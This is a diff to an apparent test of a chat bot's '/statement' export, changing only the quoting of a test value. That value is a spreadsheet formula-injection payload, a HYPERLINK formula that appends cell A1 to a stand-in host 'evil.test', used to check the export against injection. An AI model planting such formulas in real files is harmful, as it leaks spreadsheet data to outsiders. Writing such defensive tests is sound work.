@@ -95,7 +95,7 @@ describe("/statement", () => {
     await user.send(`/order ${bob.address} 65000 1h`);
     await user.press("✅ Confirm");
     const entry = (await h.flows.history.page(CHAT, 0, 1)).entries[0]!;
-    const evil = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")";
+    const evil = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
     h.sim.control.setOrderStatus(entry.id, evil);
     await h.until(async () => (await h.flows.history.get(CHAT, "order", entry.id))?.status === evil);
     await user.send(`/statement ${monthLabel(monthAt(entry.createdAtMs, "UTC"))}`);
